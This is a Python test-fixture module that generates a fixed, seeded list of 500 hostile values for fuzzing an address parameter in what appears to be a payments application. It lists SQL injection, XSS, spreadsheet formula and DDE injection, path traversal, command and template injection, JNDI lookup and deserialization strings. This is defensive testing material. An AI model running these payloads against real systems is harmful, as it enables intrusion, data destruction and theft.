"""Five hundred hostile values for the address: the same ones in every run.

An address brings any text but lone surrogates: what is no UTF-8 in it becomes U+FFFD. A NUL and
other control characters do arrive, as %00. Some values are valid where they are not expected.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

NUMBER: Final = 500
_SEED: Final = 3964

_SQL: Final = (
    "'",
    '"',
    "''",
    "';",
    "--",
    "/*",
    "' OR '1'='1",
    "' OR 1=1 --",
    "1; DROP TABLE payments; --",
    "00101' UNION SELECT participant_name FROM participants --",
    "') OR true --",
    "\\'; SELECT 1",
    "$$",
    "$1",
    "%s",
    "%(office)s",
    ":office",
    ":1",
    "{00101}",
    "{00101,00110}",
    "NULL",
    "null",
    "pg_sleep(10)",
    "'||pg_sleep(10)||'",
    "set_config('app.offices','{00101}',false)",
    "COPY payments TO STDOUT",
    "E'\\x27'",
    "00101;RESET ROLE",
    "*",
    "_____",
    "%",
    "%%",
    "0010_",
    "ARRAY['00101']",
    "current_setting('app.offices')",
    "\\",
    "\\\\",
    "\\x00",
    "U&'\\0027'",
)
_MARKUP: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>x</b>", "</title>", "<!--",
    "]]>", "&lt;", "&#60;", "&amp;amp;", "javascript:alert(1)", "data:text/html,x",
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "[x]: http://evil.example",
    "**x**", "# x", "`x`", "```", "~~x~~", "$x^2$", ":material/home:", ":red[x]", ":smile:",
    "|a|b|", "- x", "1. x", "> x", "***", "<https://evil.example>", "http://evil.example",
    "www.evil.example", "a@evil.example", "x\n\n# y", "{{x}}", "<style>*{}</style>",
)  # fmt: skip
_FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil.example")', "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "＝1+1", "'=1+1", ";=1+1", ",=1+1", "%0A=1",
)  # fmt: skip
_SIGNS: Final = (
    "\x00", "00101\x00", "\x00\x00\x00", "\x01", "\x07", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85",
    "\t", "\n", "\r\n", " ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200d", "\ufeff", "\u2060",
    "\u202e00101", "\u202d", "\u2066x\u2069", "\u061c", "\u200f", "\u2028", "\u2029", "\u00ad",
    "\ufffd", "\ufffd\ufffd\ufffd", "\ufffe", "\U0010ffff", "\U000e0041", "\ue000", "\u0300" * 50,
)  # fmt: skip
_LETTERS: Final = (
    "００１０１", "٠٠١٠١", "०", "Ⅷ", "²", "½", "ß", "ſ", "İ", "ı", "ﬀ", "Å", "Å", "Å", "đ", "Đ",
    "Nguyễn", "Nguyễn", "nguyê\u0303n", "ＩＳ", "іѕ", "ВІ", "ΒΙ", "😀", "👩‍👩‍👧‍👦", "🇻🇳",
    "e\u0301" * 40,
    "한국", "العربية", "עברית", "ไทย", "𝟎𝟎𝟏𝟎𝟏", "T̷̨̛h̶", "ⅰ", "㈱", "ǆ",
)  # fmt: skip
_NUMBERS: Final = (
    "0",
    "-0",
    "00",
    "-1",
    "1.5",
    "1e9",
    "1e400",
    "-1e400",
    "0x10",
    "0b1",
    "1_000",
    "1,000",
    "NaN",
    "Infinity",
    "-inf",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551616",
    "9" * 18,
    "9" * 19,
    "9" * 100,
    "9" * 4300,
    "9" * 4301,
    "9" * 10_000,
    "0" * 5000 + "1",
    "1000000",
    "1000001",
    "+1",
    " 1",
    "1 ",
    "١",
    "²",
    "999999999",
    "True",
    "true",
    "false",
    "none",
    "None",
    "undefined",
    "-9223372036854775808",
)
_DAYS: Final = (
    "0000-00-00", "0001-01-01", "1999-12-31", "2000-01-01", "2026-02-29", "2026-02-30",
    "2026-13-01", "2026-00-10", "2026-8-21", "20260821", "2026-W34-5", "2026-234", "9999-12-31",
    "10000-01-01", "-2026-01-01", "2099-12-31", "2100-01-01", "2026-08-21T00:00:00",
    "2026-08-21 ", " 2026-08-21", "2026-08-21\n", "21/08/2026", "08/21/2026", "today", "now",
    "infinity", "-infinity", "epoch", "tomorrow", "２０２６-08-21", "2026–08–21", "2026-08-21Z",
    "2026-08-21+07:00", "2026-08-31", "2026-06-10", "2024-02-29", "1582-10-10",
)  # fmt: skip
_PATHS: Final = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\",
    "file:///etc/passwd",
    "//evil",
    "\\\\evil\\share",
    "..%2f..%2f",
    "%2e%2e%2f",
    "%00",
    "%252e",
    "%c0%ae",
    "%ff",
    "%",
    "%zz",
    "~",
    "~root",
    "./.",
    "con",
    "aux.txt",
    "a/b/c",
    "a?b=c",
    "a&office=00101",
    "a#b",
    "a;b",
    "a=b",
    "http://127.0.0.1:5432",
    "gopher://x",
    "ldap://evil/x",
    "\\u0000",
)
_TEMPLATES: Final = (
    "{}", "{0}", "{value}", "{value.__class__}", "{0.__class__.__mro__}", "{{}}", "{{7*7}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%n%n%n", "%x", "%1$s", "${jndi:ldap://evil/x}", "$(id)",
    "`id`", "| id", "; id", "&& id", "__import__('os').system('id')", "__class__", "{!r}", "{:>9}",
    "constructor", "__proto__", "toString", "[]", "()", '{"a":1}', "[1,2]", '"quoted"', "!!x",
    "- !!python/object:os.system", "<?xml version='1.0'?>", "\\N{DIGIT ONE}", "$ref", "@@version",
)  # fmt: skip
# What there is, of the one office and of others, where it belongs and where it does not.
_KNOWN: Final = (
    "00101", "00100", "00110", "00101,00110", "00101 ", " 00101", "BI0001", "bi0001", "IS0002",
    "NVT01", "NVT10", "P01-1", "P10-1", "XN01-1", "XN10-1", "R01", "R10", "R-city", "FT01",
    "FT-city", "BL01-1", "BL10-1", "00101/BI0001/2026-08-12", "00110/BI0001/2026-08-12", "IS", "BI",
    "AR", "IL", "org", "office", "collector", "product", "day", "week", "all", "overdue",
    "unrecorded",
    "not_informed", "form_missing", "receipt_twice", "remitted", "late", "missing", "mismatched",
    "on_time", "unremitted", "payments", "adjustments", "late_recorded", "transfers", "recorded",
    "uninformed", "1", "2", "3", "en", "vi", "EN", "fr", "amount", "-amount", "day", "-payment_id",
    "--amount", "amount,day", "office_code", "00101/BI0001", "0012345601", "Trần Thị C01", "-",
)  # fmt: skip
_HUGE: Final = (
    "a" * 65, "a" * 120, "a" * 121, "a" * 10_000, "a," * 5_000, "1," * 5_000, "a " * 5_000,
    "đ" * 4_000, "😀" * 2_000, "'" * 3_000, "<b>" * 2_000, "{" * 3_000, "%" * 3_000, "\n" * 3_000,
    "\x00" * 3_000, "(" * 3_000, "\u202e" * 2_000, "=" * 3_000, "*" * 3_000, "[" * 3_000,
    ",".join(f"X{number}" for number in range(1_000)),
)  # fmt: skip
_WRITTEN: Final = (
    *_KNOWN, *_SQL, *_MARKUP, *_FORMULAS, *_SIGNS, *_LETTERS, *_NUMBERS, *_DAYS, *_PATHS,
    *_TEMPLATES, *_HUGE,
)  # fmt: skip


def values() -> tuple[str, ...]:
    """Return the values: those that somebody thought of, and mixtures of them."""
    every = dict.fromkeys(_WRITTEN)
    mixed = _mixed()
    while len(every) < NUMBER:
        every[next(mixed)] = None
    assert len(every) == NUMBER
    return tuple(every)


def _mixed() -> Iterator[str]:
    """Give mixtures without end: pieces of what is hostile round what is known."""
    drawn = random.Random(_SEED)  # noqa: S311 - not a secret
    pieces = [value[:40] for value in _WRITTEN]
    while True:
        yield "".join(drawn.choice(pieces) for _ in range(drawn.randint(2, 4)))
